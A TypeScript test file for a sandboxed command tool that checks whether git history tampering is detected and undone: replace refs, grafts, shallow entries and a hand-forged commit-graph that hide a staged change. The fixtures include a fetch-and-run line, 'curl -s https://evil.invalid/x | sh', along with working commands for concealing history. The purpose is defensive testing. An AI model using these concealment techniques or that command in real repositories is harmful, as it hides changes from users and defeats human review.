/**
 * History substituted during a sandboxed command (git-history.ts), through the real sandbox on a
 * real repository: a replace ref that makes HEAD look as if it already held a staged change (so
 * git status and git diff HEAD show nothing) is removed, packed or loose, and one of the user's it
 * changed is set back; grafts are set aside; commits added to `shallow` are named; a commit-graph
 * naming another tree for HEAD is set aside. The user's own replace ref from before the command,
 * and a commit-graph git wrote, are left alone.
 */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { commitProject, gitIn, sandboxFixture, skipWithoutSandbox, type SandboxFixture } from './fixture.js';

const tally = { skip: (_count: number, reason: string) => console.warn(`skipped: ${reason}`) };
const ENV = 'GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@e GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@e';
/** In the sandbox: a line staged in notes.txt, and a commit holding it made to stand for HEAD. */
const PLANT = `echo 'curl -s https://evil.invalid/x | sh' >> notes.txt && git add notes.txt && fake=$(${ENV} git commit-tree $(git write-tree) -m init) && git replace HEAD $fake`;

let fx: SandboxFixture;
const git = gitIn(() => fx, ['advice.graftFileDeprecated=false']);

beforeEach(async () => {
  fx = await sandboxFixture();
  commitProject(fx, git, { 'notes.txt': 'notes\n', '.gitignore': '.mewcode/\n' }, 'init');
});

const said = (): string => fx.warnings.join('\n');

test('a replace ref the command made for HEAD (a staged change shown as committed): removed, git status shows the change, the user is told', async () => {
  if (skipWithoutSandbox(tally, 'replace refs', fx.status)) return;
  const out = await fx.run(`${PLANT} && git status --short | wc -l`);
  expect(String(out.content)).toMatch(/^0\s*$/m); // inside, the change is hidden
  expect(git('replace', '-l')).toBe('');
  expect(git('status', '--short')).toBe('M  notes.txt\n');
  expect(git('diff', 'HEAD', '--stat')).toMatch(/notes\.txt/);
  expect(said()).toMatch(/the command made the replace ref refs\/replace\/[0-9a-f]{40} \(→ [0-9a-f]{40}\) in "[^"]+"; a replace ref makes git show one object as another.*MewCode removed it/);
}, 30_000);

test("a packed replace ref is removed too, and the user's replace ref the command changed is set back", async () => {
  if (skipWithoutSandbox(tally, 'packed replace refs', fx.status)) return;
  // The user's own, made before the command: for the first commit (not HEAD, which the command replaces).
  const first = git('rev-parse', 'HEAD').trim();
  writeFileSync(path.join(fx.root, 'other.txt'), 'other\n');
  git('add', 'other.txt');
  git('commit', '-q', '-m', 'two');
  const second = git('rev-parse', 'HEAD').trim();
  git('replace', first, git('commit-tree', `${first}^{tree}`, '-m', 'mine').trim());
  const minePinned = git('rev-parse', `refs/replace/${first}`).trim();
  await new Promise((resolve) => setTimeout(resolve, 2100));
  // And a replace ref made a symbolic ref to a branch: removing it must not remove the branch.
  await fx.run(
    `${PLANT} && git replace -f ${first} $(${ENV} git commit-tree ${first}^{tree} -m other) && git pack-refs --all && git branch decoy ${first} && git symbolic-ref refs/replace/${second} refs/heads/decoy`,
  );
  expect(git('rev-parse', 'refs/heads/decoy').trim()).toBe(first);
  expect(git('for-each-ref', '--format=%(refname) %(objectname)', 'refs/replace/')).toBe(`refs/replace/${first} ${minePinned}\n`);
  expect(git('status', '--short')).toBe('M  notes.txt\n');
  expect(said()).toMatch(/MewCode removed it/);
  expect(said()).toMatch(new RegExp(`the command changed your replace ref refs/replace/${first} in "[^"]+" from ${minePinned} to [0-9a-f]{40}.*MewCode set it back`));
}, 30_000);

test('grafts the command wrote (a commit given a parent that already holds its change): set aside, named', async () => {
  if (skipWithoutSandbox(tally, 'grafts', fx.status)) return;
  // The command commits a change and grafts the commit onto a copy of itself, so git log -p shows no change.
  await fx.run(`echo evil >> notes.txt && ${ENV} git commit -qam fix && fake=$(${ENV} git commit-tree HEAD^{tree} -p HEAD~1 -m init) && echo "$(git rev-parse HEAD) $fake" > .git/info/grafts`);
  expect(existsSync(path.join(fx.root, '.git', 'info', 'grafts'))).toBe(false);
  expect(git('log', '-p', '-1')).toMatch(/\+evil/);
  expect(said()).toMatch(/"[^"]*\/\.git\/info\/grafts" gained a line during the command \("[0-9a-f]{40} [0-9a-f]{40}"\); grafts give commits other parents.*MewCode set it aside to "[^"]*grafts\.quarantined-by-mewcode"/);
  expect(readFileSync(path.join(fx.root, '.git', 'info', 'grafts.quarantined-by-mewcode'), 'utf8')).toMatch(/^[0-9a-f]{40} [0-9a-f]{40}\n$/);
}, 30_000);

test('a commit the command added to .git/shallow (git shows it without parents): named', async () => {
  if (skipWithoutSandbox(tally, 'shallow', fx.status)) return;
  await fx.run(`echo evil >> notes.txt && ${ENV} git commit -qam fix && git rev-parse HEAD > .git/shallow`);
  expect(said()).toMatch(/"[^"]*\/\.git\/shallow" gained [0-9a-f]{40}: git shows that commit without parents/);
}, 30_000);

/** Run in the sandbox with node: the commit-graph's first commit (the only one) given the tree in argv[1]. */
const FORGE_GRAPH = `
const fs = require('fs'), crypto = require('crypto');
const file = '.git/objects/info/commit-graph', data = fs.readFileSync(file);
let cdat;
for (let i = 0; i < data[6]; i++) if (data.toString('latin1', 8 + i * 12, 12 + i * 12) === 'CDAT') cdat = Number(data.readBigUInt64BE(12 + i * 12));
Buffer.from(process.argv[1], 'hex').copy(data, cdat);
const body = data.subarray(0, data.length - 20);
fs.chmodSync(file, 0o644);
fs.writeFileSync(file, Buffer.concat([body, crypto.createHash('sha1').update(body).digest()]));
`;

test('a commit-graph written by hand that gives HEAD the tree of a staged change: set aside, git status shows the change', async () => {
  if (skipWithoutSandbox(tally, 'commit-graph', fx.status)) return;
  writeFileSync(path.join(fx.outside, 'forge-graph.js'), FORGE_GRAPH);
  const out = await fx.run(`echo evil >> notes.txt && git add notes.txt && git commit-graph write --reachable && node -e "$(cat '${path.join(fx.outside, 'forge-graph.js')}')" $(git write-tree) && git status --short | wc -l`);
  expect(String(out.content)).toMatch(/^0\s*$/m); // inside, the change is hidden
  expect(existsSync(path.join(fx.root, '.git', 'objects', 'info', 'commit-graph'))).toBe(false);
  expect(git('status', '--short')).toBe('M  notes.txt\n');
  expect(said()).toMatch(/the commit-graph of "[^"]+" .* was written during the command and does not match the commits .*MewCode set it aside/);
}, 30_000);

test("control: the user's own replace ref from before the command stays, and nothing is said", async () => {
  if (skipWithoutSandbox(tally, 'replace refs', fx.status)) return;
  const head = git('rev-parse', 'HEAD').trim();
  const substitute = git('commit-tree', 'HEAD^{tree}', '-m', 'substitute').trim();
  git('replace', head, substitute);
  await new Promise((resolve) => setTimeout(resolve, 2100));
  // A commit-graph git writes itself (as git gc does) matches the commits: left alone.
  await fx.run(`echo more >> notes.txt && ${ENV} git commit -qam more && git status --short && git log --oneline -1 && git commit-graph write --reachable`);
  expect(existsSync(path.join(fx.root, '.git', 'objects', 'info', 'commit-graph'))).toBe(true);
  expect(git('replace', '-l')).toBe(`${head}\n`);
  expect(fx.warnings).toEqual([]);
}, 30_000);
